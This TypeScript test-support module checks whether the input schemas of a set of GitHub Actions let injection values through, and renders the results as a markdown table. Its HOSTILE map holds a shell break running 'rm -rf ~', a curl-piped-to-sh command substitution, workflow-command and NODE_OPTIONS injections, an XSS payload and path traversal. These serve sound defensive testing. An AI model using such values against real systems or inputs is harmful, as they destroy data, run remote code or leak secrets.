import { globSync, readFileSync } from "node:fs";
import { basename, dirname, join } from "node:path";
import { markdownTable } from "markdown-table";
import { parse } from "yaml";
import type { z } from "zod";
import { UserError } from "../../src/errors.ts";
import { GateActionInputs, ValidateActionInputs } from "../../src/hosts/inputs/action.ts";
import { camel } from "../../src/hosts/inputs/case.ts";
import { CommandInputs, ProposalInputs } from "../../src/hosts/inputs/command.ts";
import { parseInputs } from "../../src/hosts/inputs/inputs.ts";
import { PublishInputs } from "../../src/hosts/inputs/publish.ts";
import { SyncInputs } from "../../src/hosts/inputs/sync.ts";
import {
  DispatchInputs,
  ExpireInputs,
  WatchdogInputs,
  WatchInputs,
} from "../../src/hosts/inputs/watch.ts";
import { ConcludeInputs, LegInputs, PrepareInputs } from "../../src/hosts/inputs/workflow.ts";
import { ROOT } from "../support/pipeline.ts";

/** What somebody might give for an input, so that something else happens than the input is for. */
export const HOSTILE: Readonly<Record<string, string>> = {
  "a shell's words": '2024-10-22"; rm -rf ~ #',
  "a command substitution": "$(curl -s https://x.test | sh)",
  backticks: "`touch /tmp/pwned`",
  "an expression": "${{ secrets.GITHUB_TOKEN }}",
  "a command to the runner on a line of its own":
    "2024-10-22\n::add-mask::2024\n::set-output name=run::b-1",
  "an encoded line break": "2024-10-22%0A::error::not so",
  "a variable for later steps": "x\nNODE_OPTIONS=--import=/tmp/x.mjs",
  "markup and mentions": "<img src=x onerror=alert(1)> @acme/all #17 | **x** [y](https://x.test)",
  "a way out of the folder": "../../.github/workflows/ci.yml",
  "an option": "--exec=/tmp/x",
};

/** Every input of every action, as its entry reads it. */
const SCHEMAS: Readonly<Record<string, z.ZodType>> = {
  validate: ValidateActionInputs,
  gate: GateActionInputs,
  "plan-backfill": PrepareInputs,
  "backfill-dates": LegInputs,
  "verify-backfill": ConcludeInputs,
  "watch-recent": WatchInputs,
  "publish-reports": PublishInputs,
  "dispatch-backfill": DispatchInputs,
  "expire-approvals": ExpireInputs,
  watchdog: WatchdogInputs,
  "sync-issues": SyncInputs,
  "run-command": CommandInputs,
  "propose-waiver": ProposalInputs,
};

/** What else an action needs before it looks at the input in question. */
const BESIDE: Readonly<Record<string, Readonly<Record<string, string>>>> = {
  validate: { environment: "sample" },
  gate: { environment: "sample" },
  "plan-backfill": { environment: "sample" },
  "backfill-dates": { environment: "sample", part: "canary" },
  "verify-backfill": { environment: "sample" },
  "watch-recent": { environment: "sample" },
  "publish-reports": { token: "tok", environment: "sample" },
  "dispatch-backfill": { token: "tok", dispatches: "[]" },
  "expire-approvals": { token: "tok" },
  watchdog: { token: "tok" },
  "sync-issues": { token: "tok", environment: "sample", run: "b-1", issue: "1" },
  "run-command": { token: "tok" },
  "propose-waiver": { token: "tok", proposal: "{}" },
};

export type Attempt = {
  readonly action: string;
  readonly input: string;
  /** Hostile values, by name, that the schema lets through: they must do nothing. */
  readonly taken: readonly string[];
};

export const ACTIONS: readonly string[] = globSync("actions/*/action.yml", { cwd: ROOT })
  .map((file) => basename(dirname(file)))
  .sort();

/** Tries every hostile value for every input of every action. Throws for an action that nobody listed here. */
export function attempts(): Attempt[] {
  return ACTIONS.flatMap((action) => {
    const schema = SCHEMAS[action];
    if (schema === undefined) throw new Error(`The inputs of ${action} are not tried.`);
    const text = readFileSync(join(ROOT, "actions", action, "action.yml"), "utf8");
    const { inputs } = parse(text) as { inputs: object };
    return Object.keys(inputs).map((input) => ({
      action,
      input,
      taken: Object.entries(HOSTILE)
        .filter(([, value]) => isTaken(schema, { ...BESIDE[action], [input]: value }))
        .map(([name]) => name),
    }));
  });
}

function isTaken(schema: z.ZodType, inputs: Readonly<Record<string, string>>): boolean {
  const given = Object.entries(inputs).map(([name, value]) => [camel(name), value]);
  try {
    parseInputs(schema, Object.fromEntries(given), (name) => `input ${name}`);
    return true;
  } catch (error) {
    if (error instanceof UserError) return false;
    throw error;
  }
}

/** The table of the inputs for docs/explanation/injection.md: an action's inputs with the same outcome share a row. */
export function renderInputs(found: readonly Attempt[]): string {
  const lines = Object.keys(HOSTILE).filter((name) => !HOSTILE[name]?.includes("\n"));
  const outcomes: Readonly<Record<string, string>> = {
    "": "each is refused",
    [lines.join()]: "text on one line is taken as text, a second line refused",
    [Object.keys(HOSTILE).join()]: "taken as text",
  };
  const rows = found.map(({ action, input, taken }) => ({
    ...{ input, action, happens: outcomes[taken.join()] ?? `these are taken: ${taken.join(", ")}` },
  }));
  const shared = Map.groupBy(rows, ({ action, happens }) => `${action}\n${happens}`);
  return markdownTable(
    [
      ["action", "inputs", "what happens"],
      ...[...shared.values()].map((some) => [
        some[0]?.action ?? "",
        some.map(({ input }) => `\`${input}\``).join(", "),
        some[0]?.happens ?? "",
      ]),
    ],
    { alignDelimiters: false },
  );
}
